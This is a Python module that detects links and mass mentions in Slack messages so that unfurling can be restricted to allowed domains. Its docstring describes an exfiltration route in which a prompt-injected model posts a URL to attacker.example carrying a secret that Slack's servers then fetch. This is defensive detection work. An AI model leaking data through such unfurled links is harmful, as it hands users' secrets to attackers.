"""What a message would make Slack do beyond showing it: fetch links (unfurl) and notify many people.

A posted URL that Slack unfurls is fetched by Slack's servers, so a prompt-injected model
can leak a secret by posting `https://attacker.example/?d=SECRET`. Links are found in
every form Slack reads them: `<url|label>` and `<url>`, bare URLs, bare host names Slack
links on its own (`attacker.example/x`, in any script; bare IPv4 addresses too),
markdown-style `[label](url)`, and any string anywhere in Block Kit blocks (texts, `url`
and `image_url` fields). Finding too much is
safe (unfurling stays off); missing one is not, so anything link-like counts.

Mentions that notify many people: `<!channel>`, `<!here>`, `<!everyone>`, user groups
(`<!subteam^S123>`), their plain `@channel`/`@here`/`@everyone` spellings, and the
`broadcast`/`usergroup` elements of rich-text blocks.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import urlsplit

_ANGLE = re.compile(r"<([^<>|\s]+)(?:\|[^<>]*)?>")
_MARKDOWN = re.compile(r"\]\(\s*([^()\s]+)\s*\)")
_SCHEME_URL = re.compile(r"\b[a-z][a-z0-9+.-]{1,20}://[^\s<>|\"'`]+", re.IGNORECASE)
# Labels of any script (an internationalised name counts too), then a top-level label of letters or xn--.
_BARE_HOST = re.compile(
    r"(?<![\w@.-])(?:[^\W_](?:[\w-]{0,61}[^\W_])?\.)+(?:[^\W\d_]{2,63}|xn--[a-z0-9-]{2,59})(?::\d+)?(?:[/?#][^\s<>|]*)?",
    re.IGNORECASE,
)
_BARE_IP = re.compile(r"(?<![\w@.-])\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:[/?#][^\s<>|]*)?")
_SPECIAL_ANGLE = ("@", "#", "!")
_MASS_ANGLE = re.compile(r"<!(channel|here|everyone)(?:\|[^>]*)?>|<!subteam\^([A-Z0-9]+)(?:\|[^>]*)?>")
_MASS_PLAIN = re.compile(r"(?<![\w<!])@(channel|here|everyone)\b")


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def find_links(text: str | None, blocks: Sequence[Any] | None = None) -> list[str]:
    """Every link-like thing in a message's text and blocks, in the order found (duplicates kept once)."""
    found: list[str] = []
    for raw in ([text] if text else []) + list(_strings(blocks or [])):
        chunk = html.unescape(raw)  # Slack escapes & < > in text; a link may hide behind &lt;
        for match in _ANGLE.finditer(chunk):
            target = match.group(1)
            if not target.startswith(_SPECIAL_ANGLE):
                found.append(target)
        found += _MARKDOWN.findall(chunk)
        found += _SCHEME_URL.findall(chunk)
        found += [m.group(0) for m in _BARE_HOST.finditer(chunk)]
        found += [m.group(0) for m in _BARE_IP.finditer(chunk)]
    return list(dict.fromkeys(found))


def host_of(link: str) -> str | None:
    """The host a link points at (lower case, no port), or None when it has none (mailto:, garbage)."""
    if link.lower().startswith(("mailto:", "tel:")):
        return None
    target = link if "://" in link else "//" + link
    try:
        host = urlsplit(target).hostname
    except ValueError:
        return None
    return host.rstrip(".").lower() if host else None


def on_domains(host: str | None, domains: Sequence[str]) -> bool:
    """Whether `host` is one of `domains` or under one of them, on a label boundary."""
    if not host or not host.isascii():
        return False
    return any(host == d or host.endswith("." + d) for d in domains)


def may_unfurl(text: str | None, blocks: Sequence[Any] | None, domains: Sequence[str]) -> bool:
    """Whether Slack may unfurl this message: it has links, and every one is on `domains`."""
    links = find_links(text, blocks)
    return bool(domains) and bool(links) and all(on_domains(host_of(link), domains) for link in links)


def off_domain_links(text: str | None, blocks: Sequence[Any] | None, domains: Sequence[str]) -> list[str]:
    """The links of a message that are not on `domains`."""
    return [link for link in find_links(text, blocks) if not on_domains(host_of(link), domains)]


def mass_mentions(text: str | None, blocks: Sequence[Any] | None = None) -> list[str]:
    """The mentions in a message that notify many people (`@here`, `@channel`, `@everyone`, user groups)."""
    found: list[str] = []
    for raw in ([text] if text else []) + list(_strings(blocks or [])):
        for match in _MASS_ANGLE.finditer(raw):
            found.append(f"@{match.group(1)}" if match.group(1) else f"user group {match.group(2)}")
        found += [f"@{name}" for name in _MASS_PLAIN.findall(raw)]
    found += list(_block_mentions(blocks or []))
    return list(dict.fromkeys(found))


def _block_mentions(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        if value.get("type") == "broadcast":
            yield f"@{value.get('range', 'channel')}"
        elif value.get("type") == "usergroup":
            yield f"user group {value.get('usergroup_id', '?')}"
        for item in value.values():
            yield from _block_mentions(item)
    elif isinstance(value, list):
        for item in value:
            yield from _block_mentions(item)
